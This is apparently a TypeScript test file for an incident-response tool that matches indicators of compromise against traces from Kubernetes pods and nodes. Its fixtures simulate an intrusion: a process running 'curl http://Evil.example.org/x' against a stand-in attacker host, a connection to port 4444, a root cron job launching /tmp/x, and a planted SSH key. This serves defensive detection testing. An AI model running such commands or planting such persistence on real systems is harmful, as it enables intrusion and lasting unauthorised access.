import { createHash } from 'node:crypto';
import { expect } from 'chai';
import type { Indicator } from '../../src/findings/indicator.ts';
import { indicatorOf, type IndicatorType } from '../../src/findings/indicator.ts';
import { type HashedFile, type Touch, touchesOf } from '../../src/findings/touch.ts';
import {
  agent,
  bookOf,
  bookOfLooks,
  cleanNode,
  diffOf,
  type Items,
  lookName,
  processItems,
  specItems,
  web,
} from './traces-lab.ts';

const hex = 'ab'.repeat(32);
const blob = Buffer.concat([Buffer.from([0, 0, 0, 11]), Buffer.from('ssh-ed25519'), Buffer.alloc(36)]);
const key = `ssh-ed25519 ${blob.toString('base64')}`;
const node: Items = {
  ...cleanNode(),
  ...processItems(10, {
    in: web,
    exe: '/tmp/kdev\u001b',
    args: ['curl', 'http://Evil.example.org/x'],
    fd: { 3: 'socket:[77]' },
  }),
  '[root]/proc/10/net/tcp': 'head\n0: 0303F40A:A45C 0302F40A:115C 01 0:0 0:0 0 0 0 77 1\n',
  '[root]/etc/cron.d/x': '* * * * * root /tmp/x\n',
  '[root]/root/.ssh/authorized_keys': `${key} me\n`,
  'live_response/pod-diff.json': diffOf([
    { path: '/opt/x', change: 'added', type: 'file', sha256: hex, flags: [] },
    { path: '/etc/hosts', change: 'added', type: 'file', sha256: hex, flags: ['runtime'] },
  ]),
};
const source = { acquisition: '20261125T200000Z-node-node-a', item: 1, name: 'n' };
const files: HashedFile[] = [
  { source, sha256: hex, path: Buffer.from('/proc/10/exe'), pid: 10, runs: true },
  { source, sha256: 'cd'.repeat(32), path: Buffer.from('/tmp/.x'), pid: 10, runs: false },
];
const traces = bookOf(node).traces();

function touches(type: IndicatorType, text: string): readonly Touch[] {
  const one = indicatorOf(type, text, 'f:1');
  expect(one).to.be.an('object');
  return touchesOf([one as Indicator], { traces, files });
}

describe('who is touched', () => {
  it('is found by the content of programs and files, but of what the runtime made', () => {
    expect(
      touches('sha256', hex).map(({ subject, seen, confidence }) => [
        subject.pod,
        subject.path,
        seen,
        confidence,
      ]),
    ).to.deep.equal([
      ['web', '/proc/10/exe', 'runs a program of this content', 'high'],
      ['web', '/opt/x', 'has a file of this content', 'high'],
    ]);
    expect(touches('sha256', 'ef'.repeat(32))).to.deep.equal([]);
  });
  it('is found by a path, which is less sure, and by a name, which is hardly', () => {
    expect(
      touches('path', '/tmp/.x').map(({ subject, confidence }) => [subject.pod, confidence]),
    ).to.deep.equal([['web', 'low']]);
    expect(touches('path', '/opt/x').map(({ confidence }) => confidence)).to.deep.equal(['medium']);
    expect(touches('path', '/proc/10/exe')).to.deep.equal([]);
    expect(touches('name', 'kdev\u001b').map(({ confidence }) => confidence)).to.deep.equal(['low']);
    expect(touches('name', 'x').map(({ subject }) => subject.path)).to.deep.equal(['/opt/x']);
  });
  it('is found by whom it talks to, the more surely by the port', () => {
    const seen = (text: string): unknown[] =>
      touches('address', text).map(({ seen: what, confidence }) => [what, confidence]);
    expect(seen('10.244.2.3:4444')).to.deep.equal([['is connected to 10.244.2.3:4444', 'high']]);
    expect(seen('10.244.2.3:80')).to.deep.equal([['is connected to 10.244.2.3:4444', 'medium']]);
    expect(seen('10.244.3.3')).to.deep.equal([]);
    expect(touches('address', '10.244.2.3')[0]?.subject).to.include({
      namespace: 'prod',
      pod: 'web',
      pid: 10,
    });
  });
  it('is not whoever was given the pid of a toucher later', () => {
    const later = { ...cleanNode(), ...processItems(10, { in: agent, started: 9000 }), ...specItems(agent) };
    const both = bookOfLooks([node, later]).traces();
    const one = { ...files[0], path: Buffer.from('/x'), sha256: hex, runs: true, pid: 10 };
    const pods = [0, 1].map((look) => {
      const file = { ...one, source: { ...source, acquisition: lookName(look) } };
      const [touch] = touchesOf([{ type: 'sha256', value: hex, from: 'f' }], { traces: both, files: [file] });
      return [touch?.subject.container, touch?.subject.startTicks];
    });
    expect(pods).to.deep.equal([
      ['main', 50_000],
      ['main', 900_000],
    ]);
    expect(pods[0]).to.not.deep.equal(pods[1]);
  });
  it("is every process that holds a connection, and nobody at another port of what is the cluster's own", () => {
    const shared = bookOf({ ...node, ...processItems(12, { fd: { 4: 'socket:[77]' } }) }).traces();
    const of = (port: number, places: ReadonlySet<string>): unknown[] =>
      touchesOf([{ type: 'address', value: '10.244.2.3', port, from: 'f' }], {
        traces: shared,
        files: [],
        shared: places,
      }).map(({ subject: { pid }, confidence }) => [pid, confidence]);
    expect(of(4444, new Set())).to.have.deep.members([
      [10, 'high'],
      [12, 'high'],
    ]);
    expect(of(80, new Set())).to.have.length(2);
    expect(of(80, new Set(['10.244.2.3']))).to.deep.equal([]);
    expect(of(4444, new Set(['10.244.2.3']))).to.have.length(2);
  });
  it('is found by a host that its command line names as a word of its own', () => {
    expect(touches('domain', 'evil.example.org')).to.have.length(1);
    expect(touches('domain', 'example.org')).to.have.length(1);
    for (const other of ['vil.example.org', 'evil.example.or', 'evil.example'])
      expect(touches('domain', other), other).to.have.length(0);
  });
  it('is a node by its tables of cron and its keys', () => {
    expect(touches('cron', '/tmp/x').map(({ subject }) => subject)).to.deep.equal([
      { node: 'node-a', path: '/etc/cron.d/x' },
    ]);
    expect(touches('cron', '/tmp/xy')).to.deep.equal([]);
    const hash = createHash('sha256').update(blob).digest('base64').replace(/=+$/, '');
    expect(touches('ssh-key', `SHA256:${hash}`).map(({ subject }) => subject)).to.deep.equal([
      { node: 'node-a', path: '/root/.ssh/authorized_keys' },
    ]);
    expect(touches('ssh-key', `SHA256:${'a'.repeat(43)}`)).to.deep.equal([]);
  });
  it('says what it saw escaped', () => {
    const [touch] = touches('name', 'kdev\u001b');
    expect(JSON.stringify(touch?.evidence)).to.not.contain('\u001b');
  });
});
